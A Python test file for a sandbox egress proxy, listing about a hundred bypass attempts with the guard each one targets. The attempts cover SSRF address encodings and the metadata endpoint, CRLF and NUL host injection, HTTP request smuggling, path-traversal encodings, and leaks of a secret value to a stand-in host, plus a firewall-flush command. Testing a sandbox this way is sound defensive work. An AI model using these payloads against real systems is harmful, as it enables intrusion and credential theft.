"""Ways around the policy, tried from inside a sandbox.

An attempt is Python that runs inside, as root, with these names: PREY, a port on which the host listens by TCP and UDP on every address;
HOST, one of the host's own addresses; LENGTH, how long the secret's value is; WEB, the port of web.test, which is allowed; TLS, the port of secure.test, allowed for TLS; API, the port of
api.test, to which two secrets are bound whose placeholders are in CANARY and TOKEN, of unbound.test, to which it is not, and of rules.test, where GET of /ok* alone is
allowed. It may use the helpers of PRELUDE. It has got through when the host's listener heard of it, when it prints THROUGH or a secret's
value, when unbound.test heard the value, or rules.test another request than it may. `needs` names the guard that
alone stops it, where one does: it is left out in turn, and the attempt must then get through. None: what stops it is how things are built
(no route, no parser that would take it), not a check that can be left out.
"""
PRELUDE = r'''
import os, socket, ssl, struct, sys, threading, time
socket.setdefaulttimeout(10)
def proxy():
    return socket.create_connection(("127.0.0.1", 3128))
def all_of(c):
    d = b""
    try:
        while True:
            p = c.recv(65536)
            if not p: return d
            d += p
    except OSError:
        return d
def head_of(c):
    d = b""
    while b"\r\n\r\n" not in d:
        p = c.recv(4096)
        if not p: return d
        d += p
    return d
def tunnel(authority, more=""):
    c = proxy()
    c.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (authority, authority, more)).encode("latin-1"))
    return c, head_of(c)
def connect(authority, say=b"hello\n"):
    c, head = tunnel(authority)
    if b" 200 " in head:
        c.sendall(say)
        return all_of(c)
    return b""
def http(target, host, more="", body=b""):
    c = proxy()
    c.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target, host, more)).encode("latin-1") + body)
    return all_of(c)
def socks(kind, raw, port, say=b"hello\n"):
    c = proxy()
    c.sendall(b"\5\1\0"); c.recv(2)
    c.sendall(bytes([5, 1, 0, kind]) + raw + struct.pack(">H", port))
    if c.recv(10)[1] == 0:
        c.sendall(say)
        return all_of(c)
    return b""
def name(s):
    return bytes([len(s)]) + s
def direct(host, port, say=b"hello\n"):
    c = socket.create_connection((host, port)); c.sendall(say); return all_of(c)
def hello(sni):
    ctx = anybody()
    a, b = ssl.MemoryBIO(), ssl.MemoryBIO()
    o = ctx.wrap_bio(a, b, server_hostname=sni)
    try: o.do_handshake()
    except ssl.SSLWantReadError: pass
    return b.read()
def tls_says(first, authority="secure.test:%d"):
    c, head = tunnel(authority % TLS)
    c.sendall(first)
    d = c.recv(10)
    if d: print("THROUGH", d)
def anybody():
    """Trusts every certificate, as an attacker may."""
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    return ctx
def reader(name="api.test", alpn=("http/1.1",)):
    """TLS to a host whose requests are read on their way."""
    c, head = tunnel("%s:%d" % (name, API))
    ctx = anybody()
    ctx.set_alpn_protocols(list(alpn))
    return ctx.wrap_socket(c, server_hostname=name)
def get(target, name="api.test", *more, method="GET", host=None, body=b""):
    c = reader(name)
    lines = ["%s %s HTTP/1.1" % (method, target), "Host: %s:%d" % (host or name, API), "Connection: close", *more]
    c.sendall("\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body)
    return all_of(c)
def raw(text, name="api.test"):
    c = reader(name)
    c.sendall(text.replace("PORT", str(API)).encode("latin-1"))
    return all_of(c)
def body(d):
    head, _, rest = d.partition(b"\r\n\r\n")
    if b"chunked" not in head: return rest
    out = b""
    while rest:
        n, _, rest = rest.partition(b"\r\n")
        out, rest = out + rest[: int(n, 16)], rest[int(n, 16) + 2 :]
    return out
CANARY, TOKEN = os.environ.get("CANARY", ""), os.environ.get("TOKEN", "")
KEY = "X-Key: " + CANARY
def frame_of_key():
    """The first frame that /ws sends: the key that it was given."""
    c = reader()
    c.sendall(("GET /ws HTTP/1.1\r\nHost: api.test:%d\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
               "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n%s\r\n\r\n" % (API, KEY)).encode())
    head, _, d = head_of(c).partition(b"\r\n\r\n")
    while len(d) < 2 or len(d) < 2 + d[1]: d += c.recv(4096)
    return d[2 : 2 + d[1]]
def udp(host, port, data=b"hello", family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(data, (host, port))
    try: print("answered by", s.recvfrom(100)[1])
    except OSError: pass
'''

# name: (guard, code)
ATTEMPTS = {
    # addresses
    "direct_ip": (None, "direct(HOST, PREY)"),
    "direct_loopback_of_host": ("policy", "connect('127.0.0.1:%d' % PREY)"),
    "direct_ipv6": ("policy", "connect('[::1]:%d' % PREY)"),
    "direct_any": ("policy", "connect('0.0.0.0:%d' % PREY)"),
    "mapped_ipv6": ("policy", "connect('[::ffff:127.0.0.1]:%d' % PREY)"),
    "mapped_hex": ("policy", "connect('[::ffff:7f00:1]:%d' % PREY)"),
    "compatible_ipv6": (None, "connect('[::127.0.0.1]:%d' % PREY)"),
    "octal": (None, "connect('0177.0.0.1:%d' % PREY)"),
    "hex": (None, "connect('0x7f.0.0.1:%d' % PREY)"),
    "short": (None, "connect('127.1:%d' % PREY)"),
    "whole_number": (None, "connect('2130706433:%d' % PREY)"),
    "last_dot_address": (None, "connect('127.0.0.1.:%d' % PREY)"),
    "socks_ipv4": ("policy", "socks(1, socket.inet_aton('127.0.0.1'), PREY)"),
    "socks_ipv6": ("policy", "socks(4, socket.inet_pton(socket.AF_INET6, '::1'), PREY)"),
    "socks_mapped": ("policy", "socks(4, socket.inet_pton(socket.AF_INET6, '::ffff:127.0.0.1'), PREY)"),
    "socks_address_as_name": ("policy", "socks(3, name(b'127.0.0.1'), PREY)"),
    "socks_octal_name": (None, "socks(3, name(b'0177.0.0.1'), PREY)"),
    "transparent_mapped": (None, "s=socket.socket(socket.AF_INET6); s.settimeout(4); s.connect(('::ffff:'+HOST, PREY)); s.send(b'x')"),
    "metadata": (None, "print('THROUGH') if b' 200 ' in tunnel('169.254.169.254:80')[1] else 0"),
    "made_up_address_of_nobody": (None, "print('THROUGH') if b' 200 ' in tunnel('198.19.200.200:80')[1] else 0"),
    # names
    "other_name": ("policy", "connect('evil.test:%d' % PREY)"),
    "capitals_of_other": ("policy", "connect('EVIL.TEST:%d' % PREY)"),
    "last_dot": ("policy", "connect('evil.test.:%d' % PREY)"),
    "suffix_of_allowed": ("policy", "connect('notweb.test:%d' % PREY)"),
    "below_allowed": ("policy", "connect('evil.web.test:%d' % PREY)"),
    "idn_twin": (None, "connect('w\\xebb.test:%d' % PREY)"),
    "nul_in_name": (None, "socks(3, name(b'web.test\\0.evil.test'), PREY)"),
    "crlf_in_name": (None, "connect('web.test\\r\\nX: evil.test:%d' % PREY)"),
    "user_in_authority": (None, "connect('web.test@evil.test:%d' % PREY)"),
    "space_in_name": (None, "socks(3, name(b'web.test evil.test'), PREY)"),
    "name_to_private": ("addresses", "connect('private.test:%d' % PREY)"),
    "address_of_a_name_inside": ("inside", "c, head = tunnel('inside.test:%d' % PREY); print('THROUGH' if b'10.9.8.7' in head + all_of(c) else '')"),
    "rebinding": (None, "[connect('rebind.test:%d' % PREY) for i in range(4)]"),
    "direct_by_resolver": ("policy", "direct('evil.test', PREY)"),
    "allowed_name_on_other_port": ("policy", "connect('web.test:%d' % PREY)"),
    # DNS and other protocols
    "dns_to_outside": (None, "udp(HOST, PREY)"),
    "dns_tcp_to_outside": (None, "direct(HOST, PREY, b'\\0\\x1d\\x12\\x34\\1\\0\\0\\1' + bytes(6) + b'\\4evil\\4test\\0\\0\\1\\0\\1')"),
    "quic": (None, "udp(HOST, PREY, b'\\xc0' + bytes(1199))"),
    "udp_ipv6": (None, "udp('::1', PREY, family=socket.AF_INET6)"),
    "icmp": (None, "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,1); s.settimeout(2); s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0',('8.8.8.8',0)); print('THROUGH', s.recv(100))"),
    "socks_udp": (None, "c=proxy(); c.send(b'\\5\\1\\0'); c.recv(2); c.send(b'\\5\\3\\0\\1'+socket.inet_aton('127.0.0.1')+struct.pack('>H',PREY)); print('THROUGH' if c.recv(10)[1]==0 else '')"),
    "socks_bind": (None, "c=proxy(); c.send(b'\\5\\1\\0'); c.recv(2); c.send(b'\\5\\2\\0\\1'+socket.inet_aton('127.0.0.1')+struct.pack('>H',PREY)); print('THROUGH' if c.recv(10)[1]==0 else '')"),
    "unix_sockets": (None, "[(s:=socket.socket(socket.AF_UNIX), s.connect(p), print('THROUGH')) for p in ['\\0holt-egress-prey-%d' % PREY]]"),
    # TLS
    "sni_of_other": ("sni", "tls_says(hello('evil.test'))"),
    "no_sni": ("sni", "tls_says(hello(None))"),
    "plain_http_on_tls_port": ("sni", "tls_says(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"),
    "ssh_on_tls_port": ("sni", "tls_says(b'SSH-2.0-x\\r\\n')"),
    "absolute_http_to_tls_port": (None, "d=http('http://secure.test:%d/' % TLS, 'secure.test:%d' % TLS); print('THROUGH') if b'403' not in d[:20] else 0"),
    "transparent_sni_of_other": ("sni", "c=socket.create_connection(('secure.test',TLS)); c.send(hello('evil.test')); d=c.recv(10); print('THROUGH' if d else '')"),
    "two_hellos": (None, "tls_says(hello(None) + hello('secure.test'))"),
    # HTTP
    "host_of_other": (None, "http('http://web.test:%d/' % WEB, 'evil.test')"),
    "two_hosts": (None, "http('http://web.test:%d/' % WEB, 'web.test:%d' % WEB, 'Host: evil.test\\r\\n')"),
    "origin_form": (None, "http('/', 'evil.test:%d' % PREY)"),
    "smuggled_by_length_and_chunks": (None, "http('http://web.test:%d/' % WEB, 'web.test:%d' % WEB, 'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n', b'0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"),
    "second_request": (None, "http('http://web.test:%d/' % WEB, 'web.test:%d' % WEB, '', b'GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"),
    "connect_in_connect": (None, "c,h=tunnel('127.0.0.1:3128'); print('THROUGH') if b' 200 ' in h else 0"),
    "redirect_to_private": (None, "d=http('http://web.test:%d/redirect' % WEB, 'web.test:%d' % WEB); l=[x for x in d.split(b'\\r\\n') if x.lower().startswith(b'location:')]; direct(HOST, PREY) if not l else http(l[0].split(None,1)[1].decode(), 'private.test:%d' % PREY)"),
    # requests that are read on their way
    "method_not_allowed": ("requests", "get('/ok', 'rules.test', method='DELETE')"),
    "method_in_small_letters": ("requests", "get('/ok', 'rules.test', method='delete')"),
    "method_overridden": ("overrides", "get('/ok', 'rules.test', 'X-HTTP-Method-Override: DELETE')"),
    "method_overridden_as_cgi_reads_it": ("overrides", "get('/ok', 'rules.test', 'X_HTTP_METHOD_OVERRIDE: DELETE')"),
    "path_not_allowed": ("requests", "get('/forbidden', 'rules.test')"),
    "path_by_dots": ("requests", "get('/ok/../forbidden', 'rules.test')"),
    "path_by_escaped_dots": ("requests", "get('/ok/%2e%2E/forbidden', 'rules.test')"),
    "path_by_escaped_slash": ("requests", "get('/ok/..%2fforbidden', 'rules.test')"),
    "path_escaped_twice": ("requests", "get('/ok/%252e%252e/forbidden', 'rules.test')"),
    "path_by_backslash": (None, "get('/ok/..\\forbidden', 'rules.test')"),
    "path_denied_but_escaped": ("requests", "get('/ok/%73ecret', 'rules.test')"),
    "path_overridden": ("overrides", "get('/ok', 'rules.test', 'X-Original-URL: /forbidden')"),
    "path_of_other_host_in_tunnel": (None, "get('/forbidden', 'api.test', host='rules.test')"),
    "absolute_target_in_tunnel": (None, "raw('GET https://rules.test:PORT/forbidden HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\n')"),
    "two_hosts_in_tunnel": (None, "raw('GET /ok HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\nHost: evil.test\\r\\n\\r\\n', 'rules.test')"),
    "http2_by_alpn": (None, "print('THROUGH' if reader(alpn=['h2']).selected_alpn_protocol() == 'h2' else '')"),
    "http2_by_prior_knowledge": (None, "c=reader(alpn=['http/1.1']); c.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0'); print('' if c.recv(5) == b'HTTP/' else 'THROUGH')"),
    "http2_by_upgrade": (None, "print('THROUGH' if b' 101 ' in get('/ok', 'rules.test', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk')[:20] else '')"),
    "connect_in_reader": (None, "print('THROUGH' if b' 200 ' in raw('CONNECT rules.test:PORT HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\n', 'rules.test')[:20] else '')"),
    "smuggled_past_reader_cl_te": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
    "smuggled_past_reader_te_te": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: x\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
    "smuggled_past_reader_two_lengths": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nContent-Length: 0\\r\\nContent-Length: 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
    "smuggled_past_reader_fold": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nX: y\\r\\n Content-Length: 0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
    "smuggled_past_reader_bare_lf": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\nContent-Length: 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
    "smuggled_past_reader_space": (None, "raw('POST /ok HTTP/1.1\\r\\nHost: api.test:PORT\\r\\nContent-Length : 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: api.test:PORT\\r\\n\\r\\n')"),
    "smuggled_in_a_chunk": ("requests", "raw('GET /ok HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /forbidden HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\n', 'rules.test')"),
    "second_request_in_reader": ("requests", "raw('GET /ok HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\nGET /forbidden HTTP/1.1\\r\\nHost: rules.test:PORT\\r\\n\\r\\n', 'rules.test')"),
    # the secret's value
    "secret_to_unbound": (None, "get('/?k=' + CANARY, 'unbound.test', KEY)"),
    "secret_to_unbound_in_bound_tunnel": (None, "get('/?k=' + CANARY, 'api.test', KEY, host='unbound.test')"),
    "secret_by_sni_of_bound": (None, "c,h=tunnel('unbound.test:%d' % API); c=anybody().wrap_socket(c, server_hostname='api.test'); c.sendall(('GET / HTTP/1.1\\r\\nHost: api.test\\r\\n%s\\r\\n\\r\\n' % KEY).encode())"),
    "secret_without_tls": (None, "http('http://api.test:%d/' % WEB, 'api.test:%d' % WEB, KEY + '\\r\\n')"),
    "secret_echoed": ("scrub", "print(get('/echo', 'api.test', KEY))"),
    "secret_echoed_in_headers": ("scrub", "print(get('/echo-header', 'api.test', KEY))"),
    "secret_echoed_byte_by_byte": ("scrub", "print(get('/echo-slow', 'api.test', KEY).replace(b'\\r\\n1\\r\\n', b''))"),
    "secret_echoed_in_base64": ("scrub", "import base64, re; print([base64.b64decode(x + b'=' * (-len(x) % 4), validate=False) for x in re.findall(rb'[A-Za-z0-9+/]{20,}', get('/echo-base64', 'api.test', KEY))])"),
    "secret_echoed_from_query": ("scrub", "import urllib.parse; print(urllib.parse.unquote(get('/echo?k=' + CANARY).decode('latin-1')))"),
    "secret_echoed_by_trace": ("scrub", "print(get('/echo', 'api.test', KEY, method='TRACE'))"),
    "secret_echoed_compressed": ("compressed", "import zlib; print(zlib.decompressobj(31).decompress(body(get('/echo-gzip', 'api.test', KEY))))"),
    "secret_echoed_in_parts": ("hidden", "print(b''.join(body(get('/echo-key', 'api.test', KEY, 'Range: bytes=%d-%d' % (i, i)))[:1] for i in range(30)))"),
    "secret_echoed_as_a_headers_name": ("names", "print(get('/echo-name', 'api.test', 'X-Key: ' + TOKEN))"),
    "secret_s_length_by_websocket": ("scrub", "print('THROUGH' if len(frame_of_key()) == LENGTH else '')"),
    "secret_guessed": ("guessing", "print('THROUGH' if [CANARY.encode() in get('/echo-key', 'api.test', KEY) for i in range(300)][-1] else '')"),
    "secret_by_redirect": ("scrub", "d=get('/redirect', 'api.test', KEY); l=[x.split(None,1)[1] for x in d.split(b'\\r\\n') if x.lower().startswith(b'location:')][0].decode(); get('/' + l.split('/', 3)[3], 'unbound.test')"),
    # odd ports, other sandboxes, waiting
    "odd_port": ("policy", "[connect('web.test:%d' % p) for p in (1, 22, 25, PREY, 65535)]"),
    "neighbours_proxy": (None, "direct('100.64.0.3', 3128)"),
    "own_rules_removed": (None, "import subprocess; subprocess.run(['nft','flush','ruleset']); subprocess.run(['ip','route','flush','table','local']); direct(HOST, PREY)"),
    "own_interface": (None, "import fcntl; s=socket.socket(); fcntl.ioctl(s, 0x8914, b'lo'.ljust(16,b'\\0')+struct.pack('H',0)+bytes(22)); print('THROUGH')"),
}
